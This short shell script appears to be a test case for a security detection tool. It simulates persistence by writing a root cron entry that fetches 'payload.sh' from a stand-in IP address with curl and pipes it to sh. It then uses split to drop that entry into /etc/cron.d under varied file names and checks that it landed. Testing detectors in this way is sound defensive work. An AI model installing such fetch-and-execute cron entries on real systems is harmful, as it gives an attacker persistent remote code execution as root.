#!/bin/sh
. /opt/case/case.sh

printf '* * * * * root curl -s http://203.0.113.10/payload.sh | sh\n' >/tmp/.l
split -a 1 -l 1 /tmp/.l /etc/cron.d/upd; split -a 3 -l 1 --numeric-suffixes=100 /tmp/.l /etc/cron.d/job
grep -q payload /etc/cron.d/upda
took_place
